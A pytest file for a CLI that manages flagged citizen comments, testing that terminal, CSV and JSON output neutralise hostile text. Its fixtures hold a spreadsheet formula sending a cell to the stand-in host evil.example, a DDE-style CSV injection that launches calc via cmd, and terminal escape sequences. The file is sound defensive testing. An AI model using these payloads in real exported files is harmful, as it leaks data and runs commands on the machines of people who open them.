"""Citizens' text (and names, and servers' error messages) never drive the
operator's terminal or spreadsheet: every terminal and CSV output that shows
them, on a comment written to do harm."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest
from click.testing import CliRunner
from sqlalchemy import update

from flagkit import Kit
from huisheng.cli import main
from huisheng.config.matrix import dump_matrix
from huisheng.storage.models import Account, Flag, Unit
from huisheng.config.settings import AccountSpec, Matrix
from huisheng.textsafe import csv_cell, json_text, terminal

NOW = datetime.now(timezone.utc).replace(microsecond=0)
#: a formula a spreadsheet would run; then it sets the window title, clears the screen, reverses the
#: line and overwrites it from its start
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
TEXT = LINK + "请问\x1b]0;title\x07路灯什么时候修\x1b[2J？\u202e好不好\r已处理"
CLEAN = LINK + "请问路灯什么时候修？好不好 已处理"
AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
ACCOUNT = "示范区\x1b[31m红色\x1b[0m发布"
DANGER = ("\x1b", "\x07", "\u202e", "\x9b")


def harmless(out: str) -> None:
    for char in DANGER:
        assert char not in out, (char, out)
    assert "\r" not in out.replace("\r\n", "")


@pytest.fixture
def setup(db_url, tmp_path):
    kit = Kit(db_url)
    post = kit.post("1000000001", NOW - timedelta(days=4))
    comment_id, _ = kit.comment(post, NOW - timedelta(days=3), TEXT, author=("9001", AUTHOR))
    account, unit = kit.account("1000000001"), kit.unit("D")
    with kit.sessions.begin() as session:
        flag = Flag(comment_id=comment_id, post_id=post, account_id=account.id, unit_id=unit.id, routing="account",
                    routing_reason="账号", category="consultation", author_id="9001", author_name=AUTHOR,
                    started_at=NOW - timedelta(days=3), created_at=NOW - timedelta(days=3),
                    due_at=NOW - timedelta(days=1), updated_at=NOW - timedelta(days=3))
        session.add(flag)
        session.flush()
        kit.flag_id = flag.id
        session.execute(update(Account).where(Account.id == account.id).values(
            name=ACCOUNT, consecutive_errors=1, last_error_kind="server_error",
            last_error_message="HTTP 500 \x1b]0;owned\x07\x1b[2J", failing_since=NOW))
        session.execute(update(Unit).where(Unit.id == unit.id).values(name="示范\u202e区"))
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "matrix.toml").write_text(dump_matrix(kit.matrix), encoding="utf-8")
    kit.config = tmp_path / "huisheng.toml"
    kit.config.write_text(f'matrix = "m"\n[database]\nurl = "{db_url}"\n', encoding="utf-8")
    yield kit
    kit.close()


def run(kit, *args) -> str:
    result = CliRunner().invoke(main, ["--config", str(kit.config), *args])
    assert result.exit_code == 0, result.output
    return result.output


def rows(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))


def test_the_helpers():
    assert terminal(TEXT) == CLEAN
    assert terminal("a\x1b]8;;http://e\x1b\\link\x1b]8;;\x1b\\b\x9b2Jc\x00d") == "alinkbcd"
    assert terminal("第一行\n第二行\t完") == "第一行 第二行 完"
    assert terminal("不变 😀 [赞]") == "不变 😀 [赞]"
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1"):
        assert csv_cell(formula).startswith("'"), formula
    assert csv_cell("请问=多少") == "请问=多少" and csv_cell(-1) == -1 and csv_cell(None) is None
    text = json_text({"t": TEXT})
    harmless(text)
    assert json.loads(text) == {"t": TEXT}  # lossless


def test_flags_list_and_show(setup):
    kit = setup
    table = run(kit, "flags", "list")
    harmless(table)
    assert '=HYPERLINK("http://evil.exam' in table
    out = run(kit, "flags", "list", "--format", "csv")
    harmless(out)
    (header, row) = rows(out)
    record = dict(zip(header, row))
    assert record["留言人"] == "'" + AUTHOR and record["留言"] == "'" + CLEAN
    # values as district staff read them, times local with their offset
    assert (record["状态"], record["紧急"], record["超期"], record["分派方式"]) == ("待回复", "否", "是", "账号主办单位")
    assert record["留言时间"].endswith("+08:00")
    listed = run(kit, "flags", "list", "--format", "json")
    harmless(listed)
    assert json.loads(listed)[0]["text"] == TEXT
    shown = run(kit, "flags", "show", str(kit.flag_id))
    harmless(shown)
    assert CLEAN in shown


def test_report_overdue_and_every_report_table_and_csv(setup):
    kit = setup
    for fmt in ("table", "csv", "json"):
        out = run(kit, "report", "overdue", "--format", fmt)
        harmless(out)
    (header, row) = rows(run(kit, "report", "overdue", "--format", "csv"))
    record = dict(zip(header, row))
    assert record["留言人"] == "'" + AUTHOR and record["账号"] == "示范区红色发布" and record["单位"] == "示范区"
    assert record["留言"] == "'" + CLEAN
    assert '=HYPERLINK("http://evil.example/?x="&A1…' in run(kit, "report", "overdue")
    for args in (("coverage", "--by", "account"), ("coverage", "--by", "unit"), ("compliance",),
                 ("ranking", "--min-flags", "1", "--month", NOW.strftime("%Y-%m"))):
        for fmt in ("table", "csv", "json"):
            harmless(run(kit, "report", *args, "--format", fmt))
    assert "示范区红色发布" in run(kit, "report", "coverage", "--by", "account")


def test_status_and_matrix_sync(setup, tmp_path):
    kit = setup
    for args in (("status",), ("status", "--format", "json")):
        out = run(kit, *args)
        harmless(out)
    assert "示范区红色发布" in run(kit, "status")
    # a matrix (a district's own spreadsheet, imported) naming an account with escape sequences
    matrix = Matrix(kit.matrix.units, kit.matrix.accounts[:1] + (AccountSpec(
        "weibo", "1000000099", "新账号\x1b]0;x\x07\x1b[2J", kit.matrix.accounts[1].unit),))
    (tmp_path / "m" / "matrix.toml").write_text(dump_matrix(matrix), encoding="utf-8")
    out = run(kit, "matrix", "sync")
    harmless(out)
